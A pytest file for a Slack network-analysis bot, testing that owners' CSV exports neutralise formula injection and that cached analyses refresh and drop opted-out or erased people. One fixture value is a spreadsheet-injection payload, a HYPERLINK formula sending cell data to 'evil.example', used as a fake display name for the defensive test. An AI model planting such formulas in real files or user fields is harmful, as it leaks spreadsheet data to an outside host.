"""Programme owners' files and answers: formula-safe CSVs (issue 10, item 4) and answers
from one cached analysis that never outlives a change of the ties or of anyone's privacy
choice (issue 13, item 3). On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from slack_sdk import WebClient

from bot import db
from bot.config import load_settings
from bot.models import Workspace
from bot.services import Services
from bot.services import network as network_service
from bot.services.analysis_cache import MAX_AGE, analyses
from bot.services.roster import apply_user
from bot.services.ties import NewTie, record_tie
from bot.services.workspace import ensure_workspace

NOW = datetime(2026, 11, 2, 10, 0, tzinfo=UTC)
OWNER = "UOWNER"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Alex")'


def user(uid: str, display: str) -> dict[str, object]:
    return {"id": uid, "name": uid.lower(), "real_name": display,
            "profile": {"display_name": display, "real_name": display}}


PEOPLE = [user(OWNER, "Olive"), user("UALEX", EVIL), user("UBEA", "@Bea"),
          user("UCAL", "Cal"), user("UDEV", "-Devi+1"), user("UEVE", "Eve")]
TIES = [("UALEX", "UBEA"), ("UBEA", "UCAL"), ("UCAL", "UEVE"), ("UEVE", "UALEX"),
        ("UDEV", "UEVE"), ("UBEA", "UEVE"), ("UOWNER", "UBEA"), ("UCAL", "UDEV")]


@pytest.fixture
def services(database_url: str, tmp_path: Path) -> Iterator[Services]:
    db.upgrade(database_url)
    settings = load_settings(None, DATABASE_URL=database_url, PEERPULSE_OWNERS=OWNER,
                             PEERPULSE_DATA_DIR=str(tmp_path / "data"))
    sessions = db.make_session_factory(db.make_engine(database_url))
    clock = [NOW]
    s = Services(settings=settings, sessions=sessions,
                 client=WebClient(base_url="http://127.0.0.1:9/api/"), clock=lambda: clock[0])
    s.test_clock = clock  # type: ignore[attr-defined]
    with db.transaction(sessions) as session:
        ws = ensure_workspace(session, "T1", "Acme")
        for u in PEOPLE:
            apply_user(session, ws, u)
        session.flush()
        for i, (a, b) in enumerate(TIES):
            record_tie(session, ws, NewTie(a, b, "helped", "poll", f"seed:{i}",
                                           NOW - timedelta(days=2 + i)))
        s.workspace_id = ws.id
    analyses.clear()
    yield s
    analyses.clear()
    sessions.kw["bind"].dispose()


def cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def risky(values: list[str]) -> list[str]:
    return [c for c in values if c and c[0] in "=+-@\t\r"]


# Issue 10, item 4: every CSV an owner receives is safe to open in a spreadsheet ---------

def test_export_csvs_neutralise_formula_names(services: Services) -> None:
    ties_path, people_path, *_ = services.call(network_service.export_for_owner, OWNER)
    people = cells(people_path)
    assert risky(people) == [] and risky(cells(ties_path)) == []
    assert "'" + EVIL in people and "'@Bea" in people and "'-Devi+1" in people


def test_snapshot_people_csv_neutralises_formula_names(services: Services) -> None:
    snap = services.call(network_service.take_snapshot, OWNER, 30)
    people = cells(snap.files["people.csv"])
    assert risky(people) == []
    assert "'" + EVIL in people and "'@Bea" in people


# Issue 13, item 3: owners answered from one cached analysis --------------------------------

@pytest.fixture
def analyse_calls(monkeypatch: pytest.MonkeyPatch) -> list[float]:
    """Every run of the analysis pipeline for an owner, by its window end."""
    calls: list[float] = []
    real = network_service.analyze

    def counting(ties, people, options, *args, **kwargs):  # type: ignore[no-untyped-def]
        calls.append(options.now.timestamp())
        return real(ties, people, options, *args, **kwargs)

    monkeypatch.setattr(network_service, "analyze", counting)
    return calls


def every_cached_person() -> set[str]:
    return {node for _, entry in analyses._entries.items() for node in entry.analysis.graph}


def test_person_champions_and_compare_reuse_the_snapshot(
        services: Services, analyse_calls: list[float]) -> None:
    services.call(network_service.take_snapshot, OWNER, None)
    assert len(analyse_calls) == 1
    ego = services.call(network_service.ego, OWNER, "UEVE")
    assert sorted(ego["named_by"]) == ["UBEA", "UCAL", "UDEV"] and ego["names"] == ["UALEX"]
    five = services.call(network_service.champions, OWNER, 5)
    three = services.call(network_service.champions, OWNER, 3)
    assert len(analyse_calls) == 1  # person and champions: no new analysis
    assert len(three["picks"].recommended.ids) == 3 and five["picks"].k == 5
    # the picks for another k equal what a fresh analysis with that k recommends
    fresh = services.call(network_service._analyse, 90, champions_k=3)
    assert three["picks"] == fresh.result.recommendation
    del analyse_calls[:]
    services.call(network_service.compare, OWNER)
    services.call(network_service.compare, OWNER)
    services.call(network_service.ego, OWNER, "UBEA")
    # the window before is only built as a graph; this window is the cached one
    assert len(analyse_calls) == 0


def test_compare_from_the_graph_before_equals_a_whole_analysis_of_it(
        services: Services, analyse_calls: list[float]) -> None:
    """The window before, built as a bare graph from the cached inputs, gives the same
    comparison (and names) as a whole analysis of that window on the same data did."""
    from analytics.diff import diff_snapshots
    from bot.models import Person

    with db.transaction(services.sessions) as session:
        ws = session.get(Workspace, services.workspace_id)
        for i, (a, b) in enumerate([("UALEX", "UCAL"), ("UCAL", "UBEA"), ("UDEV", "UALEX"),
                                    ("UEVE", "UDEV"), ("UBEA", "UDEV"), ("UALEX", "UBEA"),
                                    ("UDEV", "UCAL"), ("UOWNER", "UEVE")]):
            record_tie(session, ws, NewTie(a, b, "helped", "poll", f"old:{i}",
                                           NOW - timedelta(days=95 + 9 * i)))
        # on the windows' edges: only in the window before, only in this one
        for key, (a, b), days in (("edge:1", ("UEVE", "UOWNER"), 179.5),
                                  ("edge:2", ("UCAL", "UALEX"), 89.5)):
            record_tie(session, ws, NewTie(a, b, "helped", "poll", key,
                                           NOW - timedelta(days=days)))
        teams = {"UALEX": "Sales", "UBEA": "Sales", "UCAL": "Data", "UDEV": "Data",
                 "UEVE": "Data", OWNER: "Sales"}
        for person in session.query(Person).filter(Person.workspace_id == ws.id):
            person.team = teams[person.slack_id]
            person.is_champion = person.slack_id == "UBEA"
    services.call(network_service.take_snapshot, OWNER, None)
    c = services.call(network_service.compare, OWNER)
    assert len(analyse_calls) == 1  # the snapshot's; compare analysed nothing more

    def whole(u):  # type: ignore[no-untyped-def]
        after = network_service._current(u, 90).analysis
        end = after.result.options.now
        before = network_service._analyse(u, 90, now=end - timedelta(days=90))
        return (diff_snapshots(before, after, min_group_size=u.prefs.min_group_size),
                before.result.names() | after.result.names())

    diff, names = services.call(whole)
    assert len(analyse_calls) == 2  # the whole analysis of the window before, for reference
    assert c["diff"] == {**diff, "first_run": False} and c["names"] == names
    # and the comparison has something in it: ties on both sides, a team pair, movers
    assert diff["ties"]["before"] and diff["lost_ties"] and diff["new_ties"]
    assert diff["teams_cut_off"] or diff["teams_connected"] or diff["rising"]


def test_a_new_tie_is_seen_at_once(services: Services, analyse_calls: list[float]) -> None:
    services.call(network_service.take_snapshot, OWNER, None)
    before = services.call(network_service.ego, OWNER, "UCAL")
    assert "UALEX" not in before["named_by"]
    with db.transaction(services.sessions) as session:
        ws = session.get(Workspace, services.workspace_id)
        record_tie(session, ws, NewTie("UALEX", "UCAL", "helped", "poll", "new:1",
                                       NOW - timedelta(days=1)))
    after = services.call(network_service.ego, OWNER, "UCAL")
    assert "UALEX" in after["named_by"] and len(analyse_calls) == 2


@pytest.mark.parametrize("how", ["opt out", "forget me"])
def test_opted_out_and_erased_people_disappear_from_cached_answers(
        services: Services, analyse_calls: list[float], how: str) -> None:
    services.call(network_service.take_snapshot, OWNER, None)
    assert "UCAL" in services.call(network_service.ego, OWNER, "UEVE")["named_by"]
    assert "UCAL" in every_cached_person()
    if how == "opt out":
        services.call(network_service.set_opt_out, "UCAL", True)
    else:
        services.call(network_service.forget_me, "UCAL")
    ego = services.call(network_service.ego, OWNER, "UEVE")
    assert "UCAL" not in ego["named_by"]
    champions = services.call(network_service.champions, OWNER, 3)
    assert "UCAL" not in champions["names"]
    assert "UCAL" not in str(services.call(network_service.compare, OWNER))
    with pytest.raises(Exception, match="UCAL"):
        services.call(network_service.ego, OWNER, "UCAL")
    assert "UCAL" not in every_cached_person()  # the old analysis is gone from memory too


def test_an_old_cached_analysis_is_computed_again(
        services: Services, analyse_calls: list[float]) -> None:
    services.call(network_service.ego, OWNER, "UEVE")
    services.call(network_service.ego, OWNER, "UEVE")
    assert len(analyse_calls) == 1
    services.test_clock[0] = NOW + MAX_AGE + timedelta(minutes=1)  # type: ignore[attr-defined]
    services.call(network_service.ego, OWNER, "UEVE")
    assert len(analyse_calls) == 2 and analyse_calls[-1] > analyse_calls[0]
